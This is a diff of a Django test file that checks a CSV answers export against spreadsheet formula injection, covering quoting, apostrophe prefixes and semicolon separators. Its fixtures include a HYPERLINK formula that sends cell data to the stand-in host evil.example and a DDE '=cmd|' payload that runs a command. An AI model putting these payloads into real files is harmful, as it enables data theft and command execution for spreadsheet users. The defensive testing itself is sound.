@@ -44,9 +44,9 @@ def test_formula_comments_export_neutralised_and_round_trip_through_export_impor
 
     first = answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13"))
     lines = first.decode("utf-8").splitlines()
-    assert "VR13,ovr_assigned,ja,'=1+1" in lines
-    assert 'VR13,ovr_workplace,ja,"\'=HYPERLINK(""http://evil.example/?d=""&A1;""klik"")"' in lines
-    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.split(","))
+    assert '"VR13","ovr_assigned","ja","\'=1+1"' in lines
+    assert '"VR13","ovr_workplace","ja","\'=HYPERLINK(""http://evil.example/?d=""&A1;""klik"")"' in lines
+    assert not any(cell.strip('"').startswith(("=", "+", "-", "@")) for line in lines for cell in line.split(","))
 
     again = answers_import_file(name="export.csv", data=first, round=round_2013, by=inspector)
     assert again.written == 0
@@ -97,3 +97,48 @@ def _padded(row: tuple[str, ...]) -> tuple[str, ...]:
 
 def _csv_quoted(text: str) -> str:
     return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\n') else text
+
+
+# --- a spreadsheet that splits on another separator ------------------------------------------------------------
+
+
+def _cells_a_spreadsheet_reads(data: bytes, separator: str) -> list[str]:
+    """The cells a spreadsheet program that splits on `separator` reads from a CSV file (quotes honoured)."""
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8")), delimiter=separator) for cell in row]
+
+
+@pytest.mark.parametrize("comment", ["Zie bijlage;=1+1", "Zie bijlage;=cmd|' /C calc'!A0", "a,=1+1", "x;+31 20;@A1"])
+@pytest.mark.parametrize("separator", [",", ";"])
+def test_no_spreadsheet_reads_a_formula_after_any_separator_the_import_accepts(comment, separator):
+    data = render_table(ANSWER_HEADER, [("VR13", "ovr_assigned", "ja", comment)], "csv")
+    cells = _cells_a_spreadsheet_reads(data, separator)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    # and naively split, as a spreadsheet that ignores quotes would: nothing after a separator starts a formula
+    for piece in data.decode("utf-8").replace(",", ";").split(";"):
+        assert not piece.strip('"').startswith(("=", "+", "-", "@")), piece
+
+
+def test_every_cell_of_a_csv_export_is_quoted():
+    data = render_table(ANSWER_HEADER, [("VR13", "ovr_assigned", "ja", "gewoon")], "csv").decode("utf-8")
+    assert data.splitlines() == ['"region_code","question_code","value","comment"', '"VR13","ovr_assigned","ja","gewoon"']
+
+
+@pytest.mark.parametrize("cell", ["Zie bijlage;=1+1", "a,=b", "a;'=b", "a,''-b", ";", ";=", "1,-2", "x;;@y"])
+def test_a_cell_with_separators_written_then_read_is_the_cell(cell):
+    assert csv_cell_read(csv_cell_written(cell)) == cell
+
+
+@pytest.mark.django_db
+def test_a_comment_with_a_formula_after_a_semicolon_is_exported_harmless_and_reimports_unchanged(round_2013, inspector):
+    comment = "Zie bijlage;=1+1"
+    answers_import_file(name="a.csv", data=render_table(ANSWER_HEADER, [("VR13", "ovr_assigned", "ja", comment)], "csv"),
+                        round=round_2013, by=inspector)
+    first = answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13"))
+    assert not [c for c in _cells_a_spreadsheet_reads(first, ";") if c.startswith("=")]
+    again = answers_import_file(name="export.csv", data=first, round=round_2013, by=inspector)
+    assert again.written == 0
+    assert Answer.objects.get(assessment__subject__code="VR13", question__code="ovr_assigned").comment == comment
+    assert answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13")) == first
